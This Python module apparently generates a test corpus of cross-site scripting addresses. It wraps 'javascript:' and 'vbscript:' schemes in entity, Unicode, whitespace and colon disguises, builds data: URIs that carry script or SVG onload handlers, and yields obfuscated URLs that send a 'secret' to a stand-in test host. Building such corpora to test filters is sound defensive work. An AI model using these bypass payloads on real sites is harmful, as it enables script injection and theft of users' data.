"""The addresses of attacks, in all their disguises."""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from urllib.parse import quote

from tests.browser.corpus.payload import Marks

Disguise = Callable[[str], str]


def decimal(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(char):x}" + ";" for char in text)


def padded(text: str) -> str:
    """Entities with leading zeros and without a semicolon."""
    return "".join(f"&#{ord(char):07d}" for char in text)


def mixed(text: str) -> str:
    return "".join(char.upper() if place % 2 else char for place, char in enumerate(text))


def within(piece: str) -> Disguise:
    """The piece in the middle of the scheme."""
    return lambda scheme: scheme[:4] + piece + scheme[4:]


def before(piece: str) -> Disguise:
    return lambda scheme: piece + scheme


def after(piece: str) -> Disguise:
    return lambda scheme: scheme + piece


def wide(text: str) -> str:
    """Full-width letters, which some normalise to the plain ones."""
    return "".join(chr(ord(char) + 0xFEE0) for char in text)


SCHEME_DISGUISES: tuple[Disguise, ...] = (
    str,
    str.upper,
    mixed,
    decimal,
    hexadecimal,
    padded,
    wide,
    quote,
    within("\t"),
    within("\\\t"),
    within("&Tab;"),
    within("&NewLine;"),
    within("&#x0A;"),
    within("&#9;"),
    within("%0A"),
    within("\u200b"),
    within("\u00ad"),
    within("\\"),
    within("<!-- -->"),
    before(" "),
    before("\x01"),
    before("&#1;"),
    before("&#x20;"),
    before("\u00a0"),
    before("\ufeff"),
    before("\u202e"),
    before("feed:"),
    before("view-source:"),
    after("&Tab;"),
    after("%09"),
)

COLONS = (":", "&colon;", "&#58;", "&#x3A;", "%3A", "\\:", "\uff1a")


def running(marks: Marks) -> Iterator[str]:
    """Addresses that run the script where a page follows them."""
    for disguise in SCHEME_DISGUISES:
        yield f"{disguise('javascript')}:{marks.script}"
        yield f"{disguise('vbscript')}:{marks.script}"
    for colon in COLONS:
        yield f"javascript{colon}{marks.script}"
        yield f"data{colon}text/html,%3Cscript%3E{marks.script}%3C/script%3E"
    yield from documents(marks)


def documents(marks: Marks) -> Iterator[str]:
    """Whole documents in an address."""
    page = f"<script>parent.{marks.script}</script>"
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{marks.script}"/>'
    for mime, document in (("text/html", page), ("image/svg+xml", drawing), ("application/xhtml+xml", drawing)):
        yield f"data:{mime},{quote(document)}"
        yield f"data:{mime};base64,{base64.b64encode(document.encode()).decode()}"
        yield f"DATA:{mime};charset=utf-8,{quote(document)}"
    yield f"javascript://127.0.0.1/%0A{marks.script}"
    yield f"jar:data:text/html,{quote(page)}!/"
    yield "blob:null/0"
    yield "filesystem:null/temporary/x.html"


def leaking(marks: Marks, name: str) -> Iterator[str]:
    """Addresses that carry something out when a page fetches them by itself."""
    bare = marks.host.split("//", 1)[1]
    path = f"leak/{name}?q=secret"
    yield f"{marks.host}/{path}"
    yield f"{marks.host.upper()}/{path}"
    yield f"//{bare}/{path}"
    yield f"\\\\{bare}\\{path}"
    yield f"http:/\\{bare}/{path}"
    yield f"http:{bare}/{path}"
    yield f"http://user:secret@{bare}/{path}"
    yield f"ht\ttp://{bare}/{path}"
    yield f"{hexadecimal('http')}://{bare}/{path}"
    yield f"/\\{bare}/{path}"
    yield f"ws://{bare}/{path}"
    yield f"&#47;&#47;{bare}/{path}"
